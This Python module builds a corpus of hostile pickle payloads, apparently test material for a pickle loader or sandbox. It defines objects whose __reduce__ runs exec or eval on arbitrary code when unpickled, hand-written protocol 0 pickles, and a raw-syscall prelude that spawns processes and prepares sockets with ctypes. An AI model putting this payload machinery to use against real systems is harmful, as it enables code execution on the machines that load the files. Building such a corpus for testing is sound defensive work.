"""How a payload of the corpus is written down: objects that pickle as a call, and the source text such a call runs."""

import platform
import textwrap

# System call numbers: x86_64, aarch64.
NUMBERS = {
    "write": (1, 64), "mmap": (9, 222), "mprotect": (10, 226), "dup": (32, 23), "nanosleep": (35, 101),
    "socket": (41, 198), "connect": (42, 203), "sendto": (44, 206), "bind": (49, 200), "listen": (50, 201),
    "clone": (56, 220), "execve": (59, 221), "kill": (62, 129), "ftruncate": (77, 46), "ptrace": (101, 117),
    "setuid": (105, 146), "setresuid": (117, 147), "capset": (126, 91), "personality": (135, 92), "pivot_root": (155, 41),
    "prctl": (157, 167), "chroot": (161, 51), "mount": (165, 40), "umount2": (166, 39), "init_module": (175, 105),
    "delete_module": (176, 106), "clock_nanosleep": (230, 115), "exit_group": (231, 94), "kexec_load": (246, 104),
    "add_key": (248, 217), "request_key": (249, 218), "keyctl": (250, 219), "openat": (257, 56), "mkdirat": (258, 34),
    "mknodat": (259, 33), "unlinkat": (263, 35), "renameat2": (316, 276), "symlinkat": (266, 36), "linkat": (265, 37),
    "fchmodat": (268, 53), "faccessat": (269, 48), "unshare": (272, 97), "fallocate": (285, 47), "dup3": (292, 24),
    "perf_event_open": (298, 241), "open_by_handle_at": (304, 265), "setns": (308, 268), "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271), "finit_module": (313, 273), "seccomp": (317, 277), "memfd_create": (319, 279),
    "bpf": (321, 280), "execveat": (322, 281), "userfaultfd": (323, 282), "pidfd_send_signal": (424, 424),
    "io_uring_setup": (425, 425), "io_uring_enter": (426, 426), "io_uring_register": (427, 427), "open_tree": (428, 428),
    "move_mount": (429, 429), "fsopen": (430, 430), "pidfd_open": (434, 434), "clone3": (435, 435),
}
COLUMN = 0 if platform.machine() == "x86_64" else 1

# S: a system call by name. X: a program, started by system calls alone. ADDRESS: a sockaddr_in.
RAW = f"""
import ctypes, os
C = ctypes.CDLL(None, use_errno=True)
N = {({name: pair[COLUMN] for name, pair in NUMBERS.items()})!r}
def S(name, *args):
    number = N[name] if isinstance(name, str) else name
    return C.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
def A(*words):
    return (ctypes.c_char_p * (len(words) + 1))(*words, None)
def X(path, *words, env=()):
    child = S('clone', 17, 0, 0, 0, 0)
    if child == 0:
        S('execve', path, A(*words), A(*env))
        S('exit_group', 127)
    os.waitpid(child, 0)
def ADDRESS(ip, port):
    return b'\\2\\0' + port.to_bytes(2, 'big') + bytes(map(int, ip.split('.'))) + bytes(8)
HERE = -100
HOME = b'/home/model'
"""


class Call:
    """Pickles as a call of a function: what a hostile pickle is."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


class ByName:
    """A call of a function that this machine need not have: written as protocol 0 text by hand."""

    def __init__(self, name, argument):
        module, _, function = name.rpartition(".")
        self.pickle = f"c{module}\n{function}\n(V{argument}\ntR.".encode()


class ByValue:
    """An object whose class travels in the file; `source` defines the class M."""

    def __init__(self, source):
        self.source = source


def py(source):
    """Python code. What it raises is printed: the load goes on, as a careful attacker's would."""
    body = textwrap.indent(textwrap.dedent(source).strip(), "  ")
    return Call(exec, f"try:\n{body}\nexcept Exception as e: print(type(e).__name__, e)", {"__name__": "payload"})


def raw(source):
    """Python code that acts by system calls alone."""
    return py(RAW + textwrap.dedent(source))


def model(source):
    """The object itself, made by code in the file; `source` defines its class M."""
    return Call(eval, f"(lambda n: (exec({textwrap.dedent(source)!r}, n), n['M']())[1])(dict(__name__='payload'))")
